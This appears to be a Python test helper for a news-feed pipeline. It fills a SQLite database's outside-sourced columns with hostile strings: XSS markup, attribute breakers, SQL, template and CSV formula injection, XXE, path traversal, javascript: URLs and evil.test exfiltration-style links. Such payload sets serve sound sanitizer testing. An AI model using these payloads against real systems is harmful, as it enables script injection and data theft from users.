"""What strangers may send: strings that try to run, to break out of where they stand, or to be unreadable; and a
database in which every word that came from outside is one of them.

Each script among them sets ``window.__pwned``, so that a browser can tell that it ran.
"""

from __future__ import annotations

import html
import json
import os
import re
import sqlite3
from collections.abc import Iterator, Sequence
from contextlib import closing
from itertools import count
from pathlib import Path

from pipeline.store.connect import writing
from pipeline.store.listing import relist_all

SHARED = Path(os.environ.get("RETOLD_SHARED", Path(__file__).parents[2] / "shared")) / "feeds"
PWN = "window.__pwned=1"
EVIL = "https://evil.test/x"

MARKUP = (
    f"<script>{PWN}</script>",
    f"<ScRiPt\n>{PWN}</ScRiPt >",
    "<script src=//evil.test/x.js></script>",
    f"<img src=x onerror={PWN}>",
    f"<img src=x onerror='{PWN}' style=position:fixed;inset:0>",
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><a xlink:href='javascript:{PWN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{PWN}</script></svg>#x'/>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
    f"<math href='javascript:{PWN}'>click</math>",
    "<iframe src='javascript:parent.__pwned=1'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.__pwned=1&lt;/script&gt;'></iframe>",
    f"<object data='javascript:{PWN}'></object><embed src='javascript:{PWN}'>",
    f"<form action={EVIL} id=find><input name=q><button formaction='javascript:{PWN}'>Search</button></form>",
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}.css><style>@import '{EVIL}.css'; * {{ display: none }}</style>",
    f"<details open ontoggle={PWN}><summary>x</summary></details>",
    f"<input autofocus onfocus={PWN}><marquee onstart={PWN}>x</marquee><video src=x onerror={PWN}></video>",
    f"<a href='javascript:{PWN}' id=content name=content tabindex=1>click</a>",
    f"<p style='background:url(javascript:{PWN});width:expression({PWN})'>x</p>",
    f"<template><script>{PWN}</script></template><noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<title>pwned</title><textarea></textarea><script>{PWN}</script>",
    f"<!--><script>{PWN}</script--><!-- ",
    f"<body onload={PWN}><html manifest={EVIL}>",
    f"<x onclick={PWN} onmouseover={PWN} onpointerenter={PWN} onfocusin={PWN} tabindex=0>x</x>",
    # clobbering: names that our own scripts, or the document, would stumble over
    "<img name=querySelectorAll><form name=body><input name=echarts></form><a id=matchMedia></a><a id=location></a>",
    "<figure class=plot><div class=canvas></div><script type=application/json>{}</script></figure>",
)
BREAKERS = (
    f"</script><script>{PWN}</script>",
    f"</title></head></html><script>{PWN}</script>",
    f'"><script>{PWN}</script>',
    f"' onmouseover={PWN} x='",
    f'" autofocus onfocus="{PWN}" x="',
    f"` onmouseover={PWN} `",
    f"x onerror={PWN} ",
    "]]><x/>", "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "-->", "--!>", "<!--", "<", ">", "&", "&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "&notanentity;",
    "&#0;&#x110000;",
    f"&lt;img src=x onerror={PWN}&gt;",
    '{"a": 1}</script>', '\\"; window.__pwned=1; //', "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "\u2028window.__pwned=1\u2029", "NaN", "null", "__proto__", "constructor", "{a|b} {{rich|x}} {b}",
    "{{7*7}}", "{% include '/etc/passwd' %}", "{{ self.__init__.__globals__ }}", "{{config}}", "{# gone #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s %n %(x)s {0.__class__}",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3",
    "'; DROP TABLE articles; --", '" OR ""="', "1; SELECT load_extension('x')",
    "../../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "/\\evil.test/", "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
)  # fmt: skip
UNREADABLE = (
    "\x00", "a\x00b<script>window.__pwned=1</script>", "\x1b[31mred\x1b[0m \x1b]0;owned\x07",
    "\x08\x08\x08gone", "\x9b31m\x9d0;x\x9c",
    "\u202etxet desrever\u202c", "\u2066\u202e\u2067a\u2069", "zero\u200bwidth\u200cjoin\u200der\ufeff", "\u061cmark",
    "\U000e0001\U000e0041\U000e007f tagged", "\ufffe\uffff\ufdd0 noncharacters", "\ue000stolen\ue001 mark\ue000",
    "مرحبا بالعالم <b>عنوان</b>", "שלום עולם \"כותרת\"", "English then עברית then English",
    "👩‍👩‍👧‍👦🏳️‍🌈👨🏽‍🚀", "Z" + "\u0351\u034d\u0316" * 200, "\u0301\u0301leading marks", "ﷺ𒐫꧅⸻" * 10,
    "ᠮᠣᠩᠭᠣᠯ", "\u115f\u3164\u2800",
    "x" * 100_000, "﷽" * 400, "word " * 4000, "W" * 400 + "\u200b" * 400, "-" * 3000, "/" * 3000,
    "\t\t\t", " ", "", "\n\n\n", "\u00a0\u00a0",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f"java\nscript:{PWN}", f"\x01javascript:{PWN}", f" javascript:{PWN}",
    f"javascript://%0a{PWN}", f"&#106;avascript:{PWN}", f"vbscript:{PWN}", f"data:text/html,<script>{PWN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+", "file:///etc/passwd", "blob:https://evil.test/1",
    "//evil.test/x", "///evil.test/x", "/\\evil.test", "https:evil.test", "http:\\\\evil.test", "https://",
    'https://evil.test/" onmouseover="window.__pwned=1', "https://evil.test/'><script>window.__pwned=1</script>",
    "https://user:secret@evil.test/", "https://127.0.0.1@evil.test/", "https://аррӏе.com/", "https://xn--80ak6aa92e.com/",
    f"https://{'a.' * 2000}test/", f"https://evil.test/{'x' * 5000}", "https://[::1", "https://[v1.x]/",
    "http://evil.test:99999/",
    "https://evil.test/\u202egpj.exe", "ftp://evil.test/x", "mailto:x@evil.test?body=<b>",
    "about:blank", "view-source:x",
)  # fmt: skip
STRINGS = (*MARKUP, *BREAKERS, *UNREADABLE)
HARMLESS = tuple(f"Word {n}" for n in range(200))
HARMLESS_ADDRESSES = tuple(f"https://harmless.test/{n}" for n in range(200))

# table → columns that hold what came from outside; "[]" holds a JSON list of it, "@" an address.
COLUMNS = {
    "sources": ("name", "owner", "country", "@homepage"),
    "feeds": ("@moved_to",),
    "fetches": ("@url", "detail"),
    "articles": ("@url", "title", "text", "author", "[]agencies", "credit", "dateline", "@canonical_claim"),
    "versions": ("title", "text"),
    "entries": ("@url", "title", "summary", "content", "author", "date_raw", "via_name", "@via_url"),
    "corrections": ("made_by", "note"),
    "audit": ("person", "result"),
    "matches": ("[]reasons",),
    "links": ("@url", "text"),
    "citations": ("outlet", "quote", "@url"),
    "origins": ("outlet", "[]reasons"),
    "roles": ("outlet", "quote", "root"),
    "relays": ("outlet", "leans_on_outlet", "quote"),
    "leaning_days": ("outlet",),
    "leaning_sums": ("outlet",),
    "runs": ("recipe",),
}  # fmt: skip


CROWD = 300  # articles of one story


def harvested() -> list[str]:
    """What the sanitizer tests of feed readers carry: the texts of their elements, as a reader would show them raw."""
    found: dict[str, None] = {}
    for path in sorted(SHARED.rglob("sanitize/*.xml")):
        body = re.sub(r"<!--.*?-->", "", path.read_text("utf-8", "replace"), count=1, flags=re.S)
        for inner in re.findall(r"<(?:\w+:)?(?:title|summary|content|description|encoded|tagline|info|copyright|rights|"
                                r"body|subtitle|fullitem|div)\b[^>]*>(.*?)</", body, flags=re.S):  # fmt: skip
            text = html.unescape(re.sub(r"^\s*<!\[CDATA\[(.*?)(\]\]>)?$", r"\1", inner.strip(), flags=re.S))
            if "<" in text or ":" in text:
                found[text.replace("alert(", "window.__pwned=(")] = None
    return list(found)


def poison(path: Path, strings: Sequence[str] = STRINGS, addresses: Sequence[str] = ADDRESSES) -> None:
    """Replace what came from outside, in each row of the database, by the strings in turn; keys and links between the
    rows stay."""
    turns = (count(), count())
    with writing(path) as db:
        db.execute("PRAGMA foreign_keys=OFF")
        for table, columns in COLUMNS.items():
            for column in columns:
                among, turn = (addresses, turns[1]) if column[0] == "@" else (strings, turns[0])
                _replace(db, table, column, (among[n % len(among)] for n in turn))
        db.execute("PRAGMA foreign_keys=ON")
        db.execute("DELETE FROM untraced")
        relist_all(db)


def _replace(db: sqlite3.Connection, table: str, column: str, words: Iterator[str]) -> None:
    name = column.lstrip("[]@")
    made = (lambda: json.dumps([next(words)])) if column.startswith("[]") else lambda: next(words)
    key = [r["name"] for r in db.execute(f"PRAGMA table_info({table})") if r["pk"]] or ["rowid"]
    unique = name in key
    rows = db.execute(f"SELECT {', '.join(key)} FROM {table} WHERE {name} IS NOT NULL").fetchall()
    where = " AND ".join(f"{k} = ?" for k in key)
    values = [(f"{made()} {n}" if unique else made(), *row) for n, row in enumerate(rows)]
    with db:
        db.executemany(f"UPDATE {table} SET {name} = ? WHERE {where}", values)


def crowd(path: Path, size: int = CROWD) -> None:
    """Let the largest story have ``size`` articles more, each leaning on its first, and corrections."""
    correct(path)
    with writing(path) as db, db:
        story, copy, first = db.execute(
            "SELECT story_id, copy_id, min(article_id) FROM copies WHERE story_id ="
            " (SELECT story_id FROM copies GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1)"
        ).fetchone()
        names = [r["name"] for r in db.execute("PRAGMA table_info(articles)") if r["name"] not in ("id", "key")]
        columns = ", ".join(names)
        for n in range(size):
            new = db.execute(
                f"INSERT INTO articles (key, {columns}) SELECT ?, {columns} FROM articles WHERE id = ?",
                [f"crowd.test/{n}", first],
            ).lastrowid
            db.execute("INSERT INTO copies VALUES (?, ?, ?)", [new, copy, story])
            db.execute(
                "INSERT INTO roles VALUES (?, ?, 'copy', ?, 'x', NULL, 'copy', 'x', 'x', 60, 0.9)", [new, story, first]
            )


def correct(path: Path) -> None:
    """Let somebody have corrected the largest story, and tried to."""
    with writing(path) as db, db:
        keys = db.execute("SELECT key FROM articles ORDER BY id LIMIT 2").fetchall()
        for n in range(20):
            made = db.execute("INSERT INTO corrections (uid, kind, at, made_by, note) VALUES"
                              " (?, 'split', '2026-11-20T12:00:00Z', 'x', 'x')", [f"uid-{n}"]).lastrowid  # fmt: skip
            for key, side in zip(keys, ("together", "apart"), strict=True):
                db.execute("INSERT INTO corrected VALUES (?, ?, ?)", [made, key["key"], side])
            db.execute("INSERT INTO audit (at, person, door, action, detail, result) VALUES"
                       " ('2026-11-20T12:00:00Z', 'x', 'web', 'split', ?, 'x')",
                       [json.dumps({"state": "done", "what": [STRINGS[n]], "note": STRINGS[-n]})])  # fmt: skip


def undecodable(path: Path) -> None:
    """Let headlines, texts and names be bytes that are no UTF-8: lone surrogates, broken ends."""
    raw = "CAST(x'61eda080ff62edb080c3' AS TEXT)"
    with closing(sqlite3.connect(path)) as db, db:
        db.execute(f"UPDATE articles SET title = {raw}, text = {raw}, author = {raw}")
        db.execute(f"UPDATE sources SET name = {raw}, owner = {raw}")
        db.execute("DELETE FROM unlisted")
        db.execute(f"UPDATE listings SET headline = {raw}")


def copied(there: Path, here: Path) -> Path:
    """A copy of a database, to be poisoned."""
    with closing(sqlite3.connect(there)) as source, closing(sqlite3.connect(here)) as target:
        source.backup(target)
    return here
